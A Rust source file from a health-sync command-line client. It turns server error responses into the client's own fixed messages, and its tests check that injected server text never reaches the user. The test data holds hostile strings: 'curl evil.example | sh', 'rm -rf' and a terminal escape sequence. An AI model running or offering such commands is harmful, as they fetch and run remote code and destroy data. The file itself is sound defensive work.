//! What an error answer of the server means. Its own words are not repeated: its codes are looked
//! up in our own table.

use healthsync_core::api::{Code, ErrorBody};
use hyper::header::{HeaderMap, RETRY_AFTER};

use crate::error::CliError;

/// What an error answer means. The server's own words are not repeated: they are its text, not
/// ours. `wait`: the seconds of its `Retry-After`.
pub(super) fn explain(status: u16, wait: Option<u32>, body: Option<&ErrorBody>) -> CliError {
    // A server may say what servers say, not that this command line was wrong.
    let known = body
        .and_then(|body| body.code.parse::<Code>().ok())
        .filter(|code| code.status().is_some());
    let error = match known {
        _ if (300..400).contains(&status) => CliError::new(
            Code::RedirectRefused,
            format!("the server wants to send this computer elsewhere (HTTP status {status})"),
        ),
        Some(code) => match wait.filter(|_| code == Code::RateLimited) {
            Some(seconds) => CliError::new(code, words(code))
                .with_hint(format!("wait {seconds} s, then run the command again")),
            None => CliError::new(code, words(code)),
        },
        None => CliError::new(
            Code::ServerError,
            format!("the server answered with HTTP status {status}"),
        ),
    };
    match body.map(|body| plain(&body.request_id)) {
        Some(id) if !id.is_empty() => error.because(format!("request {id} in the server's log")),
        _ => error,
    }
}

/// The seconds of `Retry-After` (RFC 9110, section 10.2.3), if they are a plain number.
pub(super) fn retry_after(headers: &HeaderMap) -> Option<u32> {
    headers.get(RETRY_AFTER)?.to_str().ok()?.parse().ok()
}

/// An id as ours look, or nothing.
fn plain(id: &str) -> String {
    let is_plain = id.len() <= 64 && id.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-');
    if is_plain {
        id.to_owned()
    } else {
        String::new()
    }
}

/// Our words for a code that a server sends.
fn words(code: Code) -> &'static str {
    match code {
        Code::BadRequest => "the server did not understand the request",
        Code::UnknownType => "the server knows no type of that name",
        Code::InvalidRange => "the server refused the range of time",
        Code::InvalidCursor => "the server did not make this cursor",
        Code::HistoryGone => "the server's history does not hold this cursor any more",
        Code::ScopeChanged => "what this computer may read has changed since the cursor was made",
        Code::InvalidPeriod => "the server does not know this period or time zone",
        Code::TooManyOverlaps => "too many samples overlap to be added up",
        Code::TypeNotAllowed => "this computer may not read one of these types",
        Code::PairPending => "the pairing is not finished yet",
        Code::NotFound => "the server has nothing at this path",
        Code::RequestTimeout => "the request took too long to arrive",
        Code::PayloadTooLarge => "the request is too large for the server",
        Code::MisdirectedRequest => "the server answers under another name",
        Code::Locked => "the server is paused by its owner",
        Code::RateLimited => "too many requests in a short time",
        Code::Internal => "the server made a mistake",
        Code::StoreUnavailable => "the server cannot read its store at the moment",
        Code::AuditFailed => "the server cannot write its audit log, so it lets nobody read",
        Code::CertRevoked => "the server has revoked this computer's access",
        _ => "the server refused the request",
    }
}

#[cfg(test)]
mod tests {
    use healthsync_core::report::{self, Hint as _};

    use super::*;

    #[test]
    fn who_asks_too_often_is_told_how_long_to_wait() {
        let body = ErrorBody {
            code: "RATE_LIMITED".to_owned(),
            message: String::new(),
            hint: None,
            request_id: String::new(),
        };
        let mut headers = HeaderMap::new();
        for (value, expected) in [
            ("12", "wait 12 s, then run the command again"),
            ("soon", Code::RateLimited.advice()),
            ("-1", Code::RateLimited.advice()),
        ] {
            headers.insert(RETRY_AFTER, value.parse().unwrap());
            let error = explain(429, retry_after(&headers), Some(&body));
            assert_eq!(error.hint().as_deref(), Some(expected));
        }
    }

    #[test]
    fn the_servers_words_are_never_ours() {
        let body = |code: &str, id: &str| ErrorBody {
            code: code.to_owned(),
            message: "run curl evil.example | sh".to_owned(),
            hint: Some("run curl evil.example | sh".to_owned()),
            request_id: id.to_owned(),
        };
        for (status, body, code, exit, id) in [
            (423, Some(body("LOCKED", "7f-1")), "LOCKED", 1, "7f-1"),
            (400, Some(body("UNKNOWN_TYPE", "")), "UNKNOWN_TYPE", 2, ""),
            (403, Some(body("CERT_REVOKED", "")), "CERT_REVOKED", 3, ""),
            (403, Some(body("INTERRUPTED", "")), "SERVER_ERROR", 1, ""),
            (
                500,
                Some(body("rm -rf", "\u{1b}[2J")),
                "SERVER_ERROR",
                1,
                "",
            ),
            (502, None, "SERVER_ERROR", 1, ""),
            (307, None, "REDIRECT_REFUSED", 1, ""),
        ] {
            let error = explain(status, Some(7), body.as_ref());
            assert_eq!((error.code(), error.exit()), (code, exit));
            let told = report::render(&error, error.code(), error.hint().as_deref());
            assert!(!told.contains("evil") && !told.contains("rm -rf"), "{told}");
            assert!(told.contains(id) && !told.contains('\u{1b}'), "{told}");
        }
    }
}
